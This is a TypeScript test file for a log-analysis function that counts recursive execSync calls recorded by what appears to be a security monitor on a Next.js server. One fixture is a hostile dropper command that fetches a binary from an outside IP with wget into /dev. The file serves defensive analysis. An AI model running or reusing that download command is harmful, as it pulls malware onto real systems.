import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { countCalls, type RawCall, type StackOverflow } from './counting.js';

const START = 1_765_576_175_101_000;
const STACK =
  'at m (chunks/4437.js:1:1114)\nat d.execSync (.next/server/chunks/4437.js:2:309)\nat d.execSync (.next/server/chunks/4437.js:2:513)\nat d.execSync (.next/server/chunks/4437.js:2:513)';

function call(over: Partial<RawCall>): RawCall {
  return {
    line: 1,
    atMicros: START,
    command: 'whoami',
    method: 'execSync',
    stack: null,
    repeat: null,
    pid: null,
    ...over,
  };
}

/** One call through a wrapper whose saved original is itself: `count` lines a few microseconds apart, then the overflow. */
function recursion(
  command: string,
  count: number,
  fromMicros: number,
  fromLine: number,
): { calls: RawCall[]; overflow: StackOverflow } {
  const calls = Array.from({ length: count }, (_, index) =>
    call({ command, line: fromLine + index, atMicros: fromMicros + index * 4, repeat: index + 1 }),
  );
  return { calls, overflow: { line: fromLine + count, atMicros: fromMicros + count * 4, stack: STACK } };
}

describe('countCalls', () => {
  it('counts 8,247 lines of one recursion as one call that never ran', () => {
    const { calls, overflow } = recursion('(cd /dev;wget http://198.51.100.7/x86)', 8_247, START, 1);
    const count = countCalls(calls, [overflow]);
    expect(count.calls).toHaveLength(1);
    expect(count.calls[0]).toMatchObject({
      rawLines: 8_247,
      recursion: true,
      executed: 'no',
      command: '(cd /dev;wget http://198.51.100.7/x86)',
    });
    expect(count.waves).toBe(1);
  });

  it('counts 24,186 lines as three calls', () => {
    const parts = [
      recursion('a', 8_062, START, 1),
      recursion('b', 8_062, START + 1_000_000, 9_000),
      recursion('a', 8_062, START + 3_720_000_000, 20_000),
    ];
    const count = countCalls(
      parts.flatMap(({ calls }) => calls),
      parts.map(({ overflow }) => overflow),
    );
    expect(count.rawLines).toBe(24_186);
    expect(count.calls.map(({ rawLines, executed }) => [rawLines, executed])).toEqual([
      [8_062, 'no'],
      [8_062, 'no'],
      [8_062, 'no'],
    ]);
    expect(count.waves).toBe(2);
  });

  it('separates two recursions of one command in the same second by their counters', () => {
    const parts = [recursion('a', 8_000, START, 1), recursion('a', 8_000, START + 200_000, 9_000)];
    expect(
      countCalls(
        parts.flatMap(({ calls }) => calls),
        parts.map(({ overflow }) => overflow),
      ).calls,
    ).toHaveLength(2);
  });

  it('notes the recursion of a harmless git config without changing its command', () => {
    const { calls, overflow } = recursion('git config --local --get remote.origin.url', 8_250, START, 1);
    expect(countCalls(calls, [overflow]).calls).toMatchObject([
      { command: 'git config --local --get remote.origin.url', rawLines: 8_250, recursion: true, executed: 'no' },
    ]);
  });

  it('reads a rate-limited monitor: one line, then the overflow with the instrument in its stack', () => {
    const calls = [
      call({ line: 15 }),
      call({ line: 27, atMicros: START + 2_364_000_000 }),
      call({ line: 39, atMicros: START + 2_628_000_000 }),
    ];
    const overflows = calls.map(({ line, atMicros }) => ({
      line: line + 1,
      atMicros: (atMicros ?? 0) + 35_595,
      stack: STACK,
    }));
    const count = countCalls(calls, overflows);
    expect(count.calls.map(({ executed, recursion: recursive }) => [executed, recursive])).toEqual([
      ['no', true],
      ['no', true],
      ['no', true],
    ]);
    expect(count.waves).toBe(3);
  });

  it.each<[string, RawCall[], StackOverflow[], number]>([
    ['no overflow at all', [call({ line: 1 })], [], 1],
    ['an overflow an hour later', [call({ line: 1 })], [{ line: 2, atMicros: START + 3_600_000_000, stack: STACK }], 1],
    [
      'an overflow of the application itself',
      [call({ line: 1 })],
      [{ line: 2, atMicros: START + 1_000, stack: 'at walk (/app/tree.js:1:1)\nat walk (/app/tree.js:1:1)' }],
      1,
    ],
    ['an overflow before the call', [call({ line: 5 })], [{ line: 2, atMicros: START - 1_000, stack: STACK }], 1],
    [
      'ten launches two seconds apart',
      Array.from({ length: 10 }, (_, n) => call({ line: n + 1, atMicros: START + n * 2_000_000 })),
      [],
      10,
    ],
    ['two processes at once', [call({ pid: '1' }), call({ line: 2, pid: '2' })], [], 2],
  ])('does not call it recursion: %s', (_, calls, overflows, expected) => {
    const count = countCalls(calls, overflows);
    expect(count.calls.map(({ recursion: recursive, executed }) => [recursive, executed])).toEqual(
      Array(expected).fill([false, 'unknown']),
    );
  });

  it('keeps every raw line in exactly one call, in linear time', () => {
    const any = fc.array(
      fc.record({ command: fc.constantFrom('a', 'b'), gap: fc.nat(2_000_000), repeat: fc.option(fc.nat(5)) }),
      { maxLength: 300 },
    );
    fc.assert(
      fc.property(any, (items) => {
        let at = START;
        const calls = items.map(({ command, gap, repeat }, index) => {
          at += gap;
          return call({ command, repeat, line: index + 1, atMicros: at });
        });
        const count = countCalls(calls, [{ line: 3, atMicros: START, stack: STACK }]);
        expect(count.calls.reduce((sum, one) => sum + one.rawLines, 0)).toBe(calls.length);
        expect(count.waves <= count.calls.length).toBe(true);
      }),
    );
  });
});
